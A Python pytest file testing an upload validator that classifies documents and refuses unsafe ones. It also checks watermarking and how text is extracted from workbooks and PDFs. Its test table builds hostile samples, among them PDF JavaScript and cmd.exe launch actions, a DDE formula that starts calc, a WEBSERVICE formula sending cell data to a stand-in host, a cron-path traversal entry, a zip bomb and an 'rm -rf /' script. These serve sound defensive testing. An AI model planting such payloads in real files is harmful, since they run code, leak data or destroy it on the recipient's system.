"""What a file really is: whole, passive and alone in its bytes, or refused with the reason."""

import io
import random
import struct
import zipfile
from datetime import UTC, datetime
from zlib import crc32

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from foundation.documents.apart import admit_apart, run
from foundation.documents.contents import ContentKind, Fault, Judged, Unfit, judge
from foundation.documents.marking import CannotBeMarked, handed_out
from foundation.documents.watermark import Watermark
from tests.foundation.documents.fonts import NEEDS_FONT
from tests.foundation.documents.samples import action, jpeg, pdf, png, repacked, written, xlsx

GOOD = {
    ContentKind.PDF: pdf(),
    ContentKind.PNG: png(),
    ContentKind.JPEG: jpeg(),
    ContentKind.XLSX: xlsx(),
    ContentKind.CSV: "機器,場所\r\nスイッチ,2階\r\n".encode("cp932"),
    ContentKind.TEXT: "庁舎のネットワーク構成の説明\n2階の機械室".encode(),
}
TYPES = "[Content_Types].xml"
DRAWN = "xl/drawings/_rels/drawing9.xml.rels"
OTHERWISE = b'<Default Extension="dat" ContentType="application/xml"/>'
MAIN = b"spreadsheetml.sheet.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
    b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" '
    b'TargetMode="External"/></Relationships>'
)


def fault(content: bytes) -> Fault | None:
    try:
        judge(content)
    except Unfit as unfit:
        return unfit.fault
    return None


def png_of(width: int, height: int) -> bytes:
    """Return a PNG whose header announces a size, with a right checksum and next to no pixels."""
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + header + struct.pack(">I", crc32(header))
    return png()[:8] + chunk + png()[33:]


def archive(**parts: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in parts.items():
            made.writestr(name.replace("__", "/").replace("_xml", ".xml"), part)
    return kept.getvalue()


def annotated(**more: object) -> bytes:
    """Return a PDF with an annotation on its page."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    box = ArrayObject(NumberObject(each) for each in (0, 0, 9, 9))
    note = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Rect"): box})
    note.update({NameObject(f"/{name}"): value for name, value in more.items()})
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    return written(writer)


def attached() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.add_attachment("秘密.exe", b"MZ")
    return written(writer)


def referred() -> bytes:
    """Return a PDF whose action names its kind by a reference to another object."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    kind = writer._add_object(NameObject("/Launch"))
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject("/S"): kind})
    return written(writer)


def reckoning(formula: str) -> bytes:
    kept = io.BytesIO()
    with xlsxwriter.Workbook(kept, {"in_memory": True}) as book:
        book.add_worksheet("表").write_formula("B2", f"={formula}")
    return kept.getvalue()


def led_on() -> DictionaryObject:
    """Return an action that shows a page, and then calls on the web."""
    shown = action("/GoTo", D="1")
    shown[NameObject("/Next")] = action("/URI", URI="https://example.jp/")
    return shown


def elsewhere() -> bytes:
    writer = PdfWriter()
    stream = StreamObject()
    stream.set_data(b"")
    stream[NameObject("/F")] = TextStringObject("picture.bin")
    writer.add_blank_page(100, 100)[NameObject("/X")] = writer._add_object(stream)
    return written(writer)


BAD = {
    "nothing": (b"", Fault.EMPTY),
    "white space": (b"  \r\n", Fault.EMPTY),
    "PDF with a script": (pdf(catalog={"/OpenAction": action("/JavaScript", JS="app.alert(1)")}), Fault.ACTIVE),
    "PDF whose name of the act is spelt in hex": (
        pdf(catalog={"/OpenAction": action("/JavaScript")}).replace(b"/JavaScript", b"/J#61vaScript"),
        Fault.ACTIVE,
    ),
    "PDF that starts a program": (pdf(catalog={"/OpenAction": action("/Launch", F="cmd.exe")}), Fault.ACTIVE),
    "PDF that starts one by reference": (referred(), Fault.ACTIVE),
    "PDF that sends a form": (annotated(A=action("/SubmitForm", F="https://example.jp/")), Fault.ACTIVE),
    "PDF that opens another": (annotated(A=action("/GoToR", F="\\\\server\\share")), Fault.ACTIVE),
    "PDF that calls on the web when opened": (
        pdf(catalog={"/OpenAction": action("/URI", URI="https://example.jp/")}),
        Fault.ACTIVE,
    ),
    "PDF that does more than to show a page": (pdf(catalog={"/OpenAction": led_on()}), Fault.ACTIVE),
    "PDF that acts when a page shows": (
        pdf(catalog={"/AA": DictionaryObject({NameObject("/O"): action("/URI", URI="https://example.jp/")})}),
        Fault.ACTIVE,
    ),
    "PDF whose file is on the web": (
        pdf(catalog={"/X": DictionaryObject({NameObject("/FS"): NameObject("/URL")})}),
        Fault.ACTIVE,
    ),
    "PDF whose stream is elsewhere": (elsewhere(), Fault.ACTIVE),
    "PDF with a file in it": (attached(), Fault.EMBEDDED),
    "PDF with a file on the page": (annotated(Subtype=NameObject("/FileAttachment")), Fault.EMBEDDED),
    "PDF under a password": (pdf(password="himitsu"), Fault.ENCRYPTED),
    "PDF under an empty password": (pdf(password=""), Fault.ENCRYPTED),
    "PDF of too many pages": (pdf(301), Fault.PAGES),
    "PDF behind something else": (b"GIF89a" + pdf(), Fault.APPENDED),
    "PDF with something behind it": (pdf() + b"MZ\x90\0", Fault.APPENDED),
    "PDF and archive in one": (pdf() + archive(a=b"x"), Fault.APPENDED),
    "PDF cut off": (pdf()[:-200], Fault.DAMAGED),
    "PNG and archive in one": (png() + archive(a=b"x"), Fault.APPENDED),
    "PNG with a page behind it": (png() + b"<script>alert(1)</script>", Fault.APPENDED),
    "PNG cut off": (png()[:-30], Fault.DAMAGED),
    "PNG with a changed byte": (png()[:50] + bytes([png()[50] ^ 1]) + png()[51:], Fault.DAMAGED),
    "PNG that announces a wall": (png_of(60_000, 60_000), Fault.PIXELS),
    "PNG that announces more than it has": (png_of(900, 900), Fault.DAMAGED),
    "JPEG with a page behind it": (jpeg() + b"<html>", Fault.APPENDED),
    "JPEG cut off": (jpeg()[:-40], Fault.DAMAGED),
    "workbook with macros": (repacked(xlsx(), add={"xl/vbaProject.bin": OLE}), Fault.MACRO),
    "xlsm renamed": (
        repacked(
            xlsx(), edit={TYPES: (b"openxmlformats-officedocument." + MAIN, b"ms-excel.sheet.macroEnabled.main+xml")}
        ),
        Fault.MACRO,
    ),
    "workbook with an OLE object": (repacked(xlsx(), add={"xl/embeddings/oleObject1.bin": OLE}), Fault.EMBEDDED),
    "workbook linked to another": (
        repacked(xlsx(), add={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        Fault.EXTERNAL,
    ),
    "workbook with a picture from elsewhere": (
        repacked(
            xlsx(), add={"xl/drawings/_rels/drawing9.xml.rels": EXTERNAL % (b"image", b"file:///\\\\server\\x.png")}
        ),
        Fault.EXTERNAL,
    ),
    "workbook with a link into a share": (
        repacked(
            xlsx(), add={"xl/worksheets/_rels/sheet9.xml.rels": EXTERNAL % (b"hyperlink", b"file:///\\\\server\\x")}
        ),
        Fault.EXTERNAL,
    ),
    **{
        f"workbook with a picture from elsewhere, {name}": (
            repacked(
                xlsx(), add={"xl/drawings/_rels/drawing9.xml.rels": EXTERNAL.replace(old, new) % (b"image", to)}
            ),
            Fault.EXTERNAL,
        )
        for name, old, new, to in (
            ("called hyperlink", b"", b"", b"https://example.jp/hyperlink.png"),
            ("spelt otherwise", b'"External"', b'"Ext&#101;rnal"', b"https://example.jp/x.png"),
            ("behind a bracket", b'Id="rId1"', b'Id="r>Id1"', b"https://example.jp/x.png"),
        )
    },
    "workbook that starts a program": (
        repacked(xlsx(), add={"xl/x.xml": b'<a-b:x xmlns:a-b="urn:x"><a-b:ddeLink ddeService="cmd"/></a-b:x>'}),
        Fault.EXTERNAL,
    ),
    **{
        f"workbook that reckons {formula}": (reckoning(formula), Fault.EXTERNAL)
        for formula in (
            'WEBSERVICE("https://example.jp/?"&A1)',
            '_xlfn.IMAGE("https://example.jp/x.png")',
            'IF(1,rtd ("x.y",,"z"))',
            "cmd|'/c calc'!A1",
        )
    },
    "workbook whose part is called otherwise": (
        repacked(xlsx(), edit={TYPES: (b"</Types>", OTHERWISE + b"</Types>")}),
        Fault.DAMAGED,
    ),
    "workbook with an entity": (
        repacked(xlsx(), edit={"xl/workbook.xml": (b"<workbook", b'<!DOCTYPE x [<!ENTITY a "b">]><workbook')}),
        Fault.DAMAGED,
    ),
    "workbook in another encoding": (
        repacked(xlsx(), edit={"xl/workbook.xml": (b'encoding="UTF-8"', b'encoding="cp037"')}),
        Fault.DAMAGED,
    ),
    "workbook that leads out": (repacked(xlsx(), add={"../../etc/cron.d/x": b"x"}), Fault.DAMAGED),
    "workbook that is a bomb": (repacked(xlsx(), add={"xl/media/x.bin": bytes(30_000_000)}), Fault.BOMB),
    "workbook of too many parts": (repacked(xlsx(), add={f"xl/x{n}.xml": b"" for n in range(2001)}), Fault.BOMB),
    "workbook with something behind it": (xlsx() + b"MZ", Fault.APPENDED),
    "workbook cut off": (xlsx()[:-300], Fault.DAMAGED),
    "document of a word processor": (archive(word__document_xml=b"<document/>"), Fault.OTHER_OFFICE),
    "archive": (archive(a=b"x"), Fault.OTHER_OFFICE),
    "old workbook, or one under a password": (OLE, Fault.OLD_OFFICE),
    "program": (b"MZ\x90\0\3\0\0\0" + bytes(200), Fault.PROGRAM),
    "script": (b"#!/bin/sh\nrm -rf /\n", Fault.PROGRAM),
    "rich text": (b"{\\rtf1 hello}", Fault.PROGRAM),
    "page": (b"<!DOCTYPE html><p>hi", Fault.MARKUP),
    "drawing with scripts": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', Fault.MARKUP),
    "page behind a text": ("説明\n".encode() * 40 + b"<script>alert(1)</script>", Fault.MARKUP),
    "GIF": (b"GIF89a" + bytes(30), Fault.OTHER_PICTURE),
    "UTF-16": ("庁舎の説明".encode("utf-16"), Fault.UNKNOWN),
}


@pytest.mark.parametrize("kind", GOOD)
@pytest.mark.asvs("5.2.1", "5.2.2", "5.2.3", "5.2.4", "5.2.5", "5.2.6")
def test_what_it_is_stands_in_its_bytes(kind: ContentKind) -> None:
    assert judge(GOOD[kind]).kind is kind


@pytest.mark.parametrize("name", BAD)
@pytest.mark.asvs("5.2.1", "5.2.2", "5.2.3", "5.2.4", "5.2.5", "5.2.6")
def test_what_is_not_passive_whole_and_alone_is_refused(name: str) -> None:
    content, expected = BAD[name]
    assert fault(content) is expected


def test_every_fault_says_what_to_do_in_both_languages() -> None:
    assert all("ください。" in each.ja for each in Fault)
    assert len({each.en for each in Fault}) == len(Fault)
    assert set(Fault) - {found for _, found in BAD.values()} == {Fault.TOO_COMPLEX, Fault.UNMARKABLE}


def test_links_to_the_web_and_to_pages_are_no_harm() -> None:
    web = annotated(Subtype=NameObject("/Link"), A=action("/URI", URI="https://example.jp/"))
    assert judge(web).kind is ContentKind.PDF


def test_a_document_may_open_at_one_of_its_pages() -> None:
    assert judge(pdf(catalog={"/OpenAction": action("/GoTo", D="1")})).kind is ContentKind.PDF


@pytest.mark.parametrize("formula", ['"WEBSERVICE(1)|"&A1', "MYIMAGE(A1)", "SUM('図 (1)'!A1:B2)"])
def test_a_formula_that_stays_in_its_book_is_no_harm(formula: str) -> None:
    assert judge(reckoning(formula)).kind is ContentKind.XLSX


def test_what_stands_beside_the_cells_of_a_workbook_is_told() -> None:
    kept = io.BytesIO()
    with xlsxwriter.Workbook(kept, {"in_memory": True}) as book:
        sheet = book.add_worksheet("表")
        sheet.write_comment("A1", "password: Comment123")
        sheet.insert_textbox(2, 2, "password: Drawing123")
        sheet.insert_image(9, 0, "図.png", {"image_data": io.BytesIO(png()), "description": "password: Picture123"})
        sheet.set_header("&Lpassword: Header123&Rx")
        book.set_properties({"comments": "password: Property123"})
        book.set_custom_property("パスワード", "Custom123")
    told = judge(kept.getvalue()).text
    assert all(f"password: {each}123\n" in told for each in ("Comment", "Drawing", "Picture", "Header", "Property"))
    assert "パスワード\nCustom123" in told


def test_so_is_what_a_formula_holds_and_what_no_cell_shows() -> None:
    told = judge(reckoning('IF(A1,"password: "&"Formula""123","")')).text
    assert 'password: \nFormula"123\n' in told
    assert 'password: Formula"123\n' in told
    left = b"<si><r><t>password: </t></r><r><t>Left123</t></r></si></sst>"
    unseen = judge(repacked(xlsx(["a"]), edit={"xl/sharedStrings.xml": (b"</sst>", left)})).text
    assert unseen.endswith("\npassword: Left123")


@pytest.mark.parametrize(
    "content",
    [
        annotated(Subtype=NameObject("/FreeText"), Contents=TextStringObject("パスワード\nZq3xW9aa")),
        annotated(V=TextStringObject("Zq3xW9aa"), DA=TextStringObject("0 g"), T=TextStringObject("パスワード")),
    ],
    ids=["note", "field"],
)
def test_so_is_what_stands_upon_the_pages_of_a_pdf(content: bytes) -> None:
    assert "パスワード\nZq3xW9aa" in judge(content).text


def test_the_text_is_found_wherever_it_stands() -> None:
    judged = judge(xlsx(["名前", "パスワード"], ["管理者", "Zq3xW9aa"]))
    assert "パスワード\nZq3xW9aa" in judged.text
    across = judge("項目,値,備考\nパスワード,Zq3xW9aa,\n".encode())
    assert across.kind is ContentKind.CSV
    assert "パスワード\nZq3xW9aa" in across.text


@settings(deadline=None, max_examples=150)
@given(kind=st.sampled_from([*ContentKind]), seed=st.integers(0, 2**32))
def test_a_changed_file_is_the_same_kind_or_refused(kind: ContentKind, seed: int) -> None:
    """Whatever happens to its bytes: no other exception, and nothing else but the plain text that is left of it."""
    draw, content = random.Random(seed), bytearray(GOOD[kind])
    for _ in range(draw.randint(1, 6)):
        at = draw.randrange(len(content))
        change = draw.choice(("flip", "cut", "double", "insert"))
        if change == "flip":
            content[at] ^= 1 << draw.randrange(8)
        elif change == "cut":
            del content[at : at + draw.randint(1, 30)]
        elif change == "double":
            content[at:at] = content[at : at + 20]
        else:
            content[at:at] = draw.randbytes(8)
        if not content:
            return
    try:
        judged = judge(bytes(content))
    except Unfit:
        return
    assert isinstance(judged, Judged)
    assert judged.kind in {kind, ContentKind.TEXT, ContentKind.CSV}


@settings(deadline=None, max_examples=80)
@given(first=st.sampled_from([*ContentKind]), second=st.sampled_from([*ContentKind]))
def test_two_files_in_one_are_refused(first: ContentKind, second: ContentKind) -> None:
    texts = {ContentKind.TEXT, ContentKind.CSV}
    if not {first, second} <= texts and (first, second) != (ContentKind.JPEG, ContentKind.JPEG):
        assert fault(GOOD[first] + GOOD[second]) is not None


async def test_apart_gives_the_same_answers() -> None:
    assert await admit_apart(GOOD[ContentKind.CSV]) == judge(GOOD[ContentKind.CSV])
    with pytest.raises(Unfit) as refused:
        await admit_apart(BAD["PDF with a script"][0])
    assert refused.value.fault is Fault.ACTIVE


def test_what_takes_too_much_apart_is_too_complex(monkeypatch: pytest.MonkeyPatch) -> None:
    for task in ("nothing of this name", "rows"):
        monkeypatch.setattr("foundation.documents.apart.PATIENCE", 0.001 if task == "rows" else 60)
        with pytest.raises(Unfit) as refused:
            run(task, {}, png())
        assert refused.value.fault is Fault.TOO_COMPLEX


def turned_aslant() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)[NameObject("/Rotate")] = NumberObject(45)
    return written(writer)


def swelling(size: int) -> bytes:
    """Return a small PDF whose page is a long stream, which is written in full when it is marked."""
    writer = PdfWriter()
    stream = StreamObject()
    stream.set_data(b"/" + b"x" * size + b" gs")
    long = writer._add_object(stream.flate_encode())
    writer.add_blank_page(100, 100)[NameObject("/Contents")] = long
    return written(writer)


@NEEDS_FONT
@pytest.mark.parametrize(
    ("content", "expected"),
    [(turned_aslant(), Fault.UNMARKABLE), (swelling(18_000_000), Fault.TOO_COMPLEX)],
    ids=["aslant", "swelling"],
)
async def test_what_can_not_be_marked_is_refused_when_it_comes(content: bytes, expected: Fault) -> None:
    assert fault(content) is None
    with pytest.raises(Unfit) as refused:
        await admit_apart(content)
    assert refused.value.fault is expected


async def test_a_file_is_marked_apart(monkeypatch: pytest.MonkeyPatch) -> None:
    """Never in the service's own process, which such a file could keep busy."""
    monkeypatch.setattr("foundation.documents.workbooks.stamp_workbook", None)
    mark = Watermark("髙﨑", "𠮷野市", datetime(2026, 11, 22, 5, 5, tzinfo=UTC), "261122-K7M2-9QXD")
    kind, content = await handed_out(ContentKind.XLSX, xlsx(), mark)
    assert (kind, judge(content).kind) == (ContentKind.XLSX, ContentKind.XLSX)
    monkeypatch.setattr("foundation.documents.apart.PATIENCE", 0.001)
    with pytest.raises(CannotBeMarked):
        await handed_out(ContentKind.XLSX, xlsx(), mark)
